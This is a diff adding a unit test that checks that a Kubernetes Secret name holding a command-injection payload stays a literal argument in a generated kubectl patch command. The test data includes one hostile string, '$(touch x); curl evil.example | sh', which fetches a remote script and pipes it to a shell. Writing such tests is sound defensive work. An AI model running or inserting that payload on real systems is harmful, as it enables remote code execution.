@@ -98,3 +98,10 @@ it('has a line of every kind for everything that can be done with a profile', ()
   expect(plain(replace?.curl)).toEqual({ key: 'new' });
   expect(plain(replace?.kubectl)).toEqual({ stringData: { apiKey: 'new' } });
 });
+
+it('a Secret whose name is a command is still only a name', () => {
+  const lines = profileCommands('a', '$(touch x); curl evil.example | sh', null, door);
+  const replace = lines.find(({ title }) => title === 'Replace its key');
+  const calls = run(replace?.kubectl ?? '');
+  expect(calls.map(({ words }) => words.slice(3, 6))).toEqual([['patch', 'secret', '$(touch x); curl evil.example | sh']]);
+});
